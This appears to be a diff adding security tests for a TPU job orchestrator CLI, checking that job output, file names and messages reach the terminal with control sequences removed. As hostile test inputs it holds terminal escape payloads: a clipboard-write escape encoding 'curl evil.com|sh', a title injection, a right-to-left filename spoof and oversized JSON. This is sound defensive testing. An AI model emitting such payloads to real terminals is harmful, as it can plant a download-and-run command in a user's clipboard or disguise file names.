@@ -1,0 +1,122 @@
+"""Nothing that a worker, a file or an API says can steer the terminal of the person who reads it."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+
+from orchestrator.cli import talk
+from orchestrator.core import armed
+from orchestrator.errors import UserError
+from orchestrator.remote.collect import read_index
+from orchestrator.remote.terminal import LINE_CHARS
+from tests.security.conftest import Tpujob
+
+CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmNvbXxzaA==\x07"
+TITLE = "\x1b]0;pwned\x07"
+
+JOB = r"""
+tpu: {zone: us-central1-a}
+command: |
+  printf '\033]52;c;Y3VybCBldmlsLmNvbXxzaA==\007clipboard\n'
+  printf '\033]0;pwned\007title\n'
+  printf '\033[2J\033[1;1Hhome\033[31m red\033[0m\n'
+  printf '\302\233' ; printf '31mC1 controls\n'
+  printf 'moc\342\200\256gnp.exe\n'
+  printf '\000\001\010nul\n'
+  printf '10%%\r50%%\r100%%\n'
+  printf 'cloud    Google Cloud, project acme\n'
+  printf '\377\376 not UTF-8\n'
+  head -c 20000000 /dev/zero | tr '\0' x; echo
+  printf '\033]52;c;never ends'
+"""
+
+
+def test_24_what_a_job_prints_is_text_of_bounded_length_with_its_worker_in_front(tpujob: Tpujob) -> None:
+    said = tpujob("run", tpujob.job(JOB))
+    assert said.code == 0, said.err
+    assert not CONTROLS.search(said.text)
+    lines = [line.removeprefix("worker0 | ") for line in said.out.splitlines() if line.startswith("worker0 | ")]
+    assert lines[:9] == [
+        *("clipboard", "title", "home red", "C1 controls", "mocgnp.exe", "nul", "100%"),
+        "cloud    Google Cloud, project acme",  # cannot be taken for a line of ours: it says whose it is
+        "�� not UTF-8",
+    ]
+    assert lines[9] == "x" * (LINE_CHARS - 1) + "…"
+    assert not CONTROLS.search(tpujob("logs", _run(tpujob)).text)
+    for line in tpujob("logs", _run(tpujob), "--json").out.splitlines():
+        assert not CONTROLS.search(json.loads(line)["line"])
+
+
+def test_22_a_file_name_with_an_escape_is_refused_and_printed_without_it(tpujob: Tpujob) -> None:
+    job = r"""
+tpu: {zone: us-central1-a}
+command: |
+  echo fine > $TPUJOB_ARTIFACTS/fine.txt
+  echo x > "$TPUJOB_ARTIFACTS/$(printf 'a\033]0;pwned\007b')"
+  echo x > "$TPUJOB_ARTIFACTS/$(printf 'two\nlines')"
+"""
+    said = tpujob("run", tpujob.job(job))
+    assert said.code == 65
+    assert not CONTROLS.search(said.text) and "pwned" not in said.text
+    kept = [path.name for path in tpujob.directory.glob("runs/*/worker0/artifacts/*")]
+    assert kept == ["fine.txt"]
+
+
+def _run(tpujob: Tpujob) -> str:
+    return str(json.loads(tpujob("list", "--json").out)[0]["run"])
+
+
+@pytest.mark.parametrize("hostile", [CLIPBOARD, TITLE, "\x1b[2J", "\x9b31m", "\u202e", "\r", "\x08"])
+def test_messages_are_cleaned_whoever_wrote_them(hostile: str, capfd: pytest.CaptureFixture[str]) -> None:
+    talk.talk.cache_clear()
+    voice = talk.talk()
+    voice.say("note", f"a{hostile}b")
+    voice.loud(f"a{hostile}b\nsecond line")
+    voice.fail(UserError(f"a{hostile}b", hint=f"c{hostile}d"))
+    talk.emit(f"a{hostile}b\tc")
+    said = capfd.readouterr()
+    assert not CONTROLS.search(said.out + said.err)
+    assert said.err == "note     ab\nab\nsecond line\nab\nhint: cd\n" and said.out == "ab\tc\n"
+    talk.talk.cache_clear()
+
+
+def test_json_carries_controls_escaped(capfd: pytest.CaptureFixture[str]) -> None:
+    talk.talk.cache_clear()
+    hostile = f"{CLIPBOARD}\x9b31m\u202e"
+    talk.emit_json({"detail": hostile, "ä": "ü"})
+    out = capfd.readouterr().out
+    assert not CONTROLS.search(out) and json.loads(out) == {"detail": hostile, "ä": "ü"}
+
+
+@pytest.mark.parametrize(
+    "text", ["[" * 5000, '{"armed": true, "lease": ' + "9" * 4000 + "}", '{"lease": 1e999}', "\0", "7"]
+)
+def test_whatever_a_job_publishes_as_the_switch_is_read_as_armed_or_not(text: str) -> None:
+    (switch,) = armed.switches([{armed.SWITCH: text}], 1)
+    assert switch.armed is (text.startswith('{"armed": true'))
+
+
+@pytest.mark.parametrize("size", ["1e999", "-Infinity", "null", '"many"', "[]"])
+def test_23_an_index_that_lies_about_sizes_is_an_error_of_the_worker_and_not_of_ours(size: str) -> None:
+    from orchestrator.errors import RemoteError
+
+    said = json.loads(f'{{"files": [{{"path": "a", "size_bytes": {size}, "sha256": ""}}], "refused": []}}')
+    with pytest.raises(RemoteError, match="the index of the artifacts makes no sense"):
+        read_index(said)
+
+
+@pytest.mark.parametrize(
+    "metrics", ["[" * 100_000, '{"test_accuracy": ' + "9" * 1000 + "}", '{"test_accuracy": NaN, "images_per_s": 1e999}']
+)
+def test_metrics_made_to_confuse_cost_neither_the_result_nor_the_release(tpujob: Tpujob, metrics: str) -> None:
+    (tpujob.directory / "code").mkdir()
+    (tpujob.directory / "code" / "metrics.json").write_text(metrics)
+    job = "tpu: {zone: us-central1-a}\ncode: code\ncommand: cp metrics.json $TPUJOB_ARTIFACTS/\n"
+    said = tpujob("run", tpujob.job(job))
+    assert said.code == 0, said.err
+    assert "result   succeeded" in said.out and "absent (checked" in said.out
+    assert tpujob("show", _run(tpujob), "--json").code == 0
